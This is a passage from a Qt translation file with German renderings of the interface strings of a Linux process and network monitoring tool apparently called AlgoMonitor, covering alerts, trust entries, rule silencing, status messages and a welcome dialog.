        <translation>Alarm</translation>
    </message>
    <message>
        <source>Error</source>
        <translation>Fehler</translation>
    </message>
    <message>
        <source>Warning</source>
        <translation>Warnung</translation>
    </message>
    <message>
        <source>Info</source>
        <translation>Info</translation>
    </message>
    <message>
        <source>Response</source>
        <translation>Reaktion</translation>
    </message>
    <message>
        <source>Dumps and ends</source>
        <translation>Abbilder und Beenden</translation>
    </message>
    <message>
        <source>Resources</source>
        <translation>Ressourcen</translation>
    </message>
    <message>
        <source>Network</source>
        <translation>Netzwerk</translation>
    </message>
    <message>
        <source>Files</source>
        <translation>Dateien</translation>
    </message>
    <message>
        <source>Sessions</source>
        <translation>Sitzungen</translation>
    </message>
    <message>
        <source>Logs and history</source>
        <translation>Protokolle und Verlauf</translation>
    </message>
    <message>
        <source>Mail</source>
        <translation>E-Mail</translation>
    </message>
    <message>
        <source>Allowed: %1</source>
        <translation>Erlaubt: %1</translation>
    </message>
</context>
<context>
    <name>ui::SettingsPage</name>
    <message>
        <source>Search</source>
        <translation>Suchen</translation>
    </message>
    <message>
        <source>Search settings</source>
        <translation>Einstellungen suchen</translation>
    </message>
    <message>
        <source>Sections</source>
        <translation>Abschnitte</translation>
    </message>
    <message>
        <source>Trust</source>
        <translation>Vertrauen</translation>
    </message>
    <message>
        <source>Found</source>
        <translation>Gefunden</translation>
    </message>
    <message>
        <source>No setting matches “%1”.</source>
        <translation>Keine Einstellung passt zu „%1“.</translation>
    </message>
    <message>
        <source>You may not see the settings</source>
        <translation>Sie dürfen die Einstellungen nicht sehen</translation>
    </message>
    <message>
        <source>No settings to show</source>
        <translation>Keine Einstellungen zu zeigen</translation>
    </message>
    <message>
        <source>Reading the settings…</source>
        <translation>Die Einstellungen werden gelesen…</translation>
    </message>
</context>
<context>
    <name>ui::SilenceButton</name>
    <message>
        <source>Silence this rule</source>
        <translation>Diese Regel stumm schalten</translation>
    </message>
    <message>
        <source>For an hour</source>
        <translation>Für eine Stunde</translation>
    </message>
    <message>
        <source>Until tomorrow</source>
        <translation>Bis morgen</translation>
    </message>
    <message>
        <source>For a week</source>
        <translation>Für eine Woche</translation>
    </message>
    <message>
        <source>Speak again</source>
        <translation>Wieder melden</translation>
    </message>
    <message>
        <source>Silent until %1</source>
        <translation>Stumm bis %1</translation>
    </message>
    <message>
        <source>Silence…</source>
        <translation>Stumm schalten…</translation>
    </message>
</context>
<context>
    <name>ui::Status</name>
    <message>
        <source>A program is suspended and waits for your answer.</source>
        <translation>Ein Programm ist angehalten und wartet auf Ihre Antwort.</translation>
    </message>
    <message>
        <source>%1 programs are suspended and wait for your answer.</source>
        <translation>%1 Programme sind angehalten und warten auf Ihre Antwort.</translation>
    </message>
    <message>
        <source>One alert wants to be looked at.</source>
        <translation>Ein Alarm will angesehen werden.</translation>
    </message>
    <message>
        <source>%1 alerts want to be looked at.</source>
        <translation>%1 Alarme wollen angesehen werden.</translation>
    </message>
    <message>
        <source>Observing only, nothing is stopped. %1</source>
        <translation>Es wird nur beobachtet, nichts wird gestoppt. %1</translation>
    </message>
    <message>
        <source>Nothing needs you. One thing limits what can be seen or done.</source>
        <translation>Nichts braucht Sie. Eines schränkt ein, was gesehen oder getan werden kann.</translation>
    </message>
    <message>
        <source>Nothing needs you. %1 things limit what can be seen or done.</source>
        <translation>Nichts braucht Sie. %1 Dinge schränken ein, was gesehen oder getan werden kann.</translation>
    </message>
    <message>
        <source>Nothing needs you. %1</source>
        <translation>Nichts braucht Sie. %1</translation>
    </message>
    <message>
        <source>Nothing is being watched: the helper does not answer.</source>
        <translation>Nichts wird beobachtet: der Helfer antwortet nicht.</translation>
    </message>
    <message>
        <source>Nothing is being watched. %1</source>
        <translation>Nichts wird beobachtet. %1</translation>
    </message>
    <message>
        <source>Connecting to the helper…</source>
        <translation>Verbindung zum Helfer…</translation>
    </message>
    <message>
        <source>The helper is starting and takes stock…</source>
        <translation>Der Helfer startet und nimmt den Bestand auf…</translation>
    </message>
    <message>
        <source>Unreachable</source>
        <translation>Nicht erreichbar</translation>
    </message>
    <message>
        <source>Connecting</source>
        <translation>Verbindet</translation>
    </message>
    <message>
        <source>1 limit</source>
        <translation>1 Einschränkung</translation>
    </message>
    <message>
        <source>%1 limits</source>
        <translation>%1 Einschränkungen</translation>
    </message>
    <message>
        <source>Events lost</source>
        <translation>Ereignisse verloren</translation>
    </message>
    <message>
        <source>All well</source>
        <translation>Alles gut</translation>
    </message>
    <message>
        <source>eBPF</source>
        <translation>eBPF</translation>
    </message>
    <message>
        <source>process connector</source>
        <translation>Process Connector</translation>
    </message>
    <message>
        <source>polling /proc</source>
        <translation>Abfragen von /proc</translation>
    </message>
    <message>
        <source>no event source</source>
        <translation>keine Ereignisquelle</translation>
    </message>
    <message>
        <source>%1 events lost</source>
        <translation>%1 Ereignisse verloren</translation>
    </message>
    <message>
        <source>helper %1 CPU, %2</source>
        <translation>Helfer %1 CPU, %2</translation>
    </message>
    <message>
        <source>1 process</source>
        <translation>1 Prozess</translation>
    </message>
    <message>
        <source>%1 processes</source>
        <translation>%1 Prozesse</translation>
    </message>
    <message>
        <source>Watching %1.</source>
        <translation>Beobachtet: %1.</translation>
    </message>
    <message>
        <source>Watching %1, %2.</source>
        <translation>Beobachtet: %1 und %2.</translation>
    </message>
    <message>
        <source>1 connection</source>
        <translation>1 Verbindung</translation>
    </message>
    <message>
        <source>%1 connections</source>
        <translation>%1 Verbindungen</translation>
    </message>
</context>
<context>
    <name>ui::StatusStrip</name>
    <message>
        <source>Mode</source>
        <translation>Modus</translation>
    </message>
    <message>
        <source>Pause responses</source>
        <translation>Reaktionen aussetzen</translation>
    </message>
    <message>
        <source>Pause responses: watch on, but stop nothing for a while</source>
        <translation>Reaktionen aussetzen: weiter beobachten, aber eine Weile nichts stoppen</translation>
    </message>
    <message>
        <source>Pause responses for 15 minutes</source>
        <translation>Reaktionen 15 Minuten aussetzen</translation>
    </message>
    <message>
        <source>Pause responses for 1 hour</source>
        <translation>Reaktionen 1 Stunde aussetzen</translation>
    </message>
    <message>
        <source>End the pause</source>
        <translation>Die Pause beenden</translation>
    </message>
    <message>
        <source>Health: %1</source>
        <translation>Befinden: %1</translation>
    </message>
</context>
<context>
    <name>ui::StoryPanel</name>
    <message>
        <source>The same story</source>
        <translation>Dieselbe Geschichte</translation>
    </message>
    <message>
        <source>and %1 more</source>
        <translation>und %1 weitere</translation>
    </message>
</context>
<context>
    <name>ui::TimeChart</name>
    <message>
        <source>now</source>
        <translation>jetzt</translation>
    </message>
</context>
<context>
    <name>ui::TrustEntryDialog</name>
    <message>
        <source>Trust</source>
        <translation>Vertrauen</translation>
    </message>
    <message>
        <source>+ Another condition</source>
        <translation>+ Weitere Bedingung</translation>
    </message>
    <message>
        <source>Trust exactly this?</source>
        <translation>Genau diesem vertrauen?</translation>
    </message>
    <message>
        <source>The rules stay silent when all conditions hold. The more there are, the less can hide behind them.</source>
        <translation>Die Regeln schweigen, wenn alle Bedingungen zutreffen. Je mehr es sind, desto weniger kann sich dahinter verstecken.</translation>
    </message>
    <message>
        <source>Rules</source>
        <translation>Regeln</translation>
    </message>
    <message>
        <source>Until</source>
        <translation>Bis</translation>
    </message>
    <message>
        <source>From now on</source>
        <translation>Von jetzt an</translation>
    </message>
    <message>
        <source>For a day</source>
        <translation>Für einen Tag</translation>
    </message>
    <message>
        <source>For a week</source>
        <translation>Für eine Woche</translation>
    </message>
    <message>
        <source>For 30 days</source>
        <translation>Für 30 Tage</translation>
    </message>
    <message>
        <source>For a year</source>
        <translation>Für ein Jahr</translation>
    </message>
    <message>
        <source>Note</source>
        <translation>Notiz</translation>
    </message>
    <message>
        <source>Why, for whoever reads this later</source>
        <translation>Warum, für alle, die dies später lesen</translation>
    </message>
    <message>
        <source>Cancel</source>
        <translation>Abbrechen</translation>
    </message>
    <message>
        <source>Your password is asked for.</source>
        <translation>Ihr Passwort wird verlangt.</translation>
    </message>
    <message>
        <source>All but those about behaviour</source>
        <translation>Alle außer denen über Verhalten</translation>
    </message>
    <message>
        <source>Only: %1</source>
        <translation>Nur: %1</translation>
    </message>
    <message>
        <source>Condition</source>
        <translation>Bedingung</translation>
    </message>
    <message>
        <source>Value of the condition</source>
        <translation>Wert der Bedingung</translation>
    </message>
    <message>
        <source>Remove the condition</source>
        <translation>Die Bedingung entfernen</translation>
    </message>
    <message>
        <source>The same kind of condition stands there twice.</source>
        <translation>Dieselbe Art von Bedingung steht zweimal da.</translation>
    </message>
</context>
<context>
    <name>ui::TrustKeys</name>
    <message>
        <source>Program of the package</source>
        <translation>Programm des Pakets</translation>
    </message>
    <message>
        <source>Exactly this file (SHA-256)</source>
        <translation>Genau diese Datei (SHA-256)</translation>
    </message>
    <message>
        <source>64 digits and letters a to f</source>
        <translation>64 Ziffern und Buchstaben a bis f</translation>
    </message>
    <message>
        <source>Program at this path</source>
        <translation>Programm an diesem Pfad</translation>
    </message>
    <message>
        <source>Programs below this directory</source>
        <translation>Programme unterhalb dieses Ordners</translation>
    </message>
    <message>
        <source>Programs of this name</source>
        <translation>Programme dieses Namens</translation>
    </message>
    <message>
        <source>Script at this path</source>
        <translation>Skript an diesem Pfad</translation>
    </message>
    <message>
        <source>Started by</source>
        <translation>Gestartet von</translation>
    </message>
    <message>
        <source>Of the systemd unit</source>
        <translation>Der systemd-Unit</translation>
    </message>
    <message>
        <source>Of the Flatpak</source>
        <translation>Des Flatpaks</translation>
    </message>
    <message>
        <source>Of the snap</source>
        <translation>Des Snaps</translation>
    </message>
    <message>
        <source>Of the AppImage</source>
        <translation>Des AppImages</translation>
    </message>
    <message>
        <source>Only for the user</source>
        <translation>Nur für den Benutzer</translation>
    </message>
    <message>
        <source>Only for the user with the number</source>
        <translation>Nur für den Benutzer mit der Nummer</translation>
    </message>
    <message>
        <source>Talking with the address</source>
        <translation>Im Gespräch mit der Adresse</translation>
    </message>
    <message>
        <source>Talking with the domain</source>
        <translation>Im Gespräch mit der Domain</translation>
    </message>
    <message>
        <source>On the port</source>
        <translation>Auf dem Port</translation>
    </message>
    <message>
        <source>Say what is trusted: without a condition it would be everything.</source>
        <translation>Sagen Sie, wem vertraut wird: ohne Bedingung wäre es allem.</translation>
    </message>
    <message>
        <source>“%1” needs another value.</source>
        <translation>„%1“ braucht einen anderen Wert.</translation>
    </message>
    <message>
        <source>A rule about behaviour needs a package, a hash or a path: the rest can be forged.</source>
        <translation>Eine Regel über Verhalten braucht ein Paket, eine Prüfsumme oder einen Pfad: der Rest lässt sich fälschen.</translation>
    </message>
    <message>
        <source>A rule about behaviour needs a peer: an address, a domain or a port.</source>
        <translation>Eine Regel über Verhalten braucht eine Gegenstelle: eine Adresse, eine Domain oder einen Port.</translation>
    </message>
    <message>
        <source>All but behaviour</source>
        <translation>Alle außer Verhalten</translation>
    </message>
</context>
<context>
    <name>ui::TrustList</name>
    <message>
        <source>Trust entries</source>
        <translation>Vertrauenseinträge</translation>
    </message>
    <message>
        <source>Reading what is trusted…</source>
        <translation>Es wird gelesen, wem vertraut wird…</translation>
    </message>
    <message>
        <source>Nothing is trusted yet</source>
        <translation>Noch wird nichts vertraut</translation>
    </message>
    <message>
        <source>An entry lets one program do one thing without an alert. Add one here, or from an alert with “Always allow”.</source>
        <translation>Ein Eintrag lässt ein Programm etwas ohne Alarm tun. Fügen Sie hier einen hinzu oder aus einem Alarm mit „Immer erlauben“.</translation>
    </message>
    <message>
        <source>No entries to show</source>
        <translation>Keine Einträge zu zeigen</translation>
    </message>
    <message>
        <source>You may not see what is trusted</source>
        <translation>Sie dürfen nicht sehen, wem vertraut wird</translation>
    </message>
    <message>
        <source>Add…</source>
        <translation>Hinzufügen…</translation>
    </message>
    <message>
        <source>Trust something else</source>
        <translation>Noch etwas anderem vertrauen</translation>
    </message>
    <message>
        <source>Add another like it…</source>
        <translation>Ähnlichen hinzufügen…</translation>
    </message>
    <message>
        <source>Begin with the conditions of the chosen entry</source>
        <translation>Mit den Bedingungen des gewählten Eintrags beginnen</translation>
    </message>
    <message>
        <source>Remove…</source>
        <translation>Entfernen…</translation>
    </message>
    <message>
        <source>Trust it no longer</source>
        <translation>Nicht länger vertrauen</translation>
    </message>
    <message>
        <source>%1 entries</source>
        <translation>%1 Einträge</translation>
    </message>
    <message>
        <source>Trust this no longer?</source>
        <translation>Diesem nicht länger vertrauen?</translation>
    </message>
    <message>
        <source>Trust these %1 no longer?</source>
        <translation>Diesen %1 nicht länger vertrauen?</translation>
    </message>
    <message>
        <source>The rules judge it again from now on. Your password is asked for.</source>
        <translation>Die Regeln beurteilen es von jetzt an wieder. Ihr Passwort wird verlangt.</translation>
    </message>
    <message>
        <source>Remove</source>
        <translation>Entfernen</translation>
    </message>
    <message>
        <source>1 entry</source>
        <translation>1 Eintrag</translation>
    </message>
</context>
<context>
    <name>ui::TrustMatch</name>
    <message>
        <source>Program of the package</source>
        <translation>Programm des Pakets</translation>
    </message>
    <message>
        <source>Exactly this file (SHA-256)</source>
        <translation>Genau diese Datei (SHA-256)</translation>
    </message>
    <message>
        <source>Program at this path</source>
        <translation>Programm an diesem Pfad</translation>
    </message>
    <message>
        <source>Talking with the address</source>
        <translation>Im Gespräch mit der Adresse</translation>
    </message>
    <message>
        <source>On its own port</source>
        <translation>Auf seinem eigenen Port</translation>
    </message>
    <message>
        <source>On the port</source>
        <translation>Auf dem Port</translation>
    </message>
    <message>
        <source>Only for the user with the number</source>
        <translation>Nur für den Benutzer mit der Nummer</translation>
    </message>
    <message>
        <source>Say which program: its package, its hash or its path.</source>
        <translation>Sagen Sie, welches Programm: sein Paket, seine Prüfsumme oder seinen Pfad.</translation>
    </message>
    <message>
        <source>Say with whom it may talk: an address or a port.</source>
        <translation>Sagen Sie, mit wem es sprechen darf: eine Adresse oder einen Port.</translation>
    </message>
</context>
<context>
    <name>ui::TrustPreview</name>
    <message>
        <source>What it would silence could not be counted: %1</source>
        <translation>Was er verschweigen würde, ließ sich nicht zählen: %1</translation>
    </message>
    <message>
        <source>In the last %1 days it would have silenced none of your alerts.</source>
        <translation>In den letzten %1 Tagen hätte er keinen Ihrer Alarme verschwiegen.</translation>
    </message>
    <message>
        <source>In the last %1 days it would have silenced %2 of your alerts: %3</source>
        <translation>In den letzten %1 Tagen hätte er %2 Ihrer Alarme verschwiegen: %3</translation>
    </message>
    <message>
        <source>(only the newest were looked at)</source>
        <translation>(nur die neuesten wurden angesehen)</translation>
    </message>
</context>
<context>
    <name>ui::TrustPreviewLabel</name>
    <message>
        <source>Counting what it would have silenced…</source>
        <translation>Es wird gezählt, was er verschwiegen hätte…</translation>
    </message>
</context>
<context>
    <name>ui::TrustTableModel</name>
    <message>
        <source>What is trusted</source>
        <translation>Was vertraut ist</translation>
    </message>
    <message>
        <source>All of these have to hold</source>
        <translation>All dies muss zutreffen</translation>
    </message>
    <message>
        <source>Rules</source>
        <translation>Regeln</translation>
    </message>
    <message>
        <source>Which rules leave it alone</source>
        <translation>Welche Regeln es in Ruhe lassen</translation>
    </message>
    <message>
        <source>Until</source>
        <translation>Bis</translation>
    </message>
    <message>
        <source>When it ends by itself</source>
        <translation>Wann es von selbst endet</translation>
    </message>
    <message>
        <source>Note</source>
        <translation>Notiz</translation>
    </message>
    <message>
        <source>Why it was made</source>
        <translation>Warum er gemacht wurde</translation>
    </message>
    <message>
        <source>No end</source>
        <translation>Kein Ende</translation>
    </message>
    <message>
        <source>Over</source>
        <translation>Vorbei</translation>
    </message>
</context>
<context>
    <name>ui::Units</name>
    <message>
        <source>KiB</source>
        <translation>KiB</translation>
    </message>
    <message>
        <source>MiB</source>
        <translation>MiB</translation>
    </message>
    <message>
        <source>GiB</source>
        <translation>GiB</translation>
    </message>
    <message>
        <source>TiB</source>
        <translation>TiB</translation>
    </message>
    <message>
        <source>B/s</source>
        <translation>B/s</translation>
    </message>
    <message>
        <source>KiB/s</source>
        <translation>KiB/s</translation>
    </message>
    <message>
        <source>MiB/s</source>
        <translation>MiB/s</translation>
    </message>
    <message>
        <source>GiB/s</source>
        <translation>GiB/s</translation>
    </message>
    <message>
        <source>s</source>
        <translation>s</translation>
    </message>
    <message>
        <source>min</source>
        <translation>min</translation>
    </message>
    <message>
        <source>h</source>
        <translation>h</translation>
    </message>
    <message>
        <source>d</source>
        <translation>d</translation>
    </message>
    <message>
        <source>just now</source>
        <translation>gerade eben</translation>
    </message>
    <message>
        <source>%1 ago</source>
        <translation>vor %1</translation>
    </message>
    <message>
        <source>Today</source>
        <translation>Heute</translation>
    </message>
    <message>
        <source>Yesterday</source>
        <translation>Gestern</translation>
    </message>
    <message>
        <source>dddd, d MMMM yyyy</source>
        <translation>dddd, d. MMMM yyyy</translation>
    </message>
    <message>
        <source>d MMM</source>
        <translation>d. MMM</translation>
    </message>
    <message>
        <source>tomorrow %1</source>
        <translation>morgen %1</translation>
    </message>
</context>
<context>
    <name>ui::WelcomeDialog</name>
    <message>
        <source>Back</source>
        <translation>Zurück</translation>
    </message>
    <message>
        <source>First steps with AlgoMonitor</source>
        <translation>Erste Schritte mit AlgoMonitor</translation>
    </message>
    <message>
        <source>Not now</source>
        <translation>Nicht jetzt</translation>
    </message>
    <message>
        <source>Step %1 of %2</source>
        <translation>Schritt %1 von %2</translation>
    </message>
    <message>
        <source>Finish</source>
        <translation>Fertig</translation>
    </message>
    <message>
        <source>Continue</source>
        <translation>Weiter</translation>
    </message>
</context>
</TS>
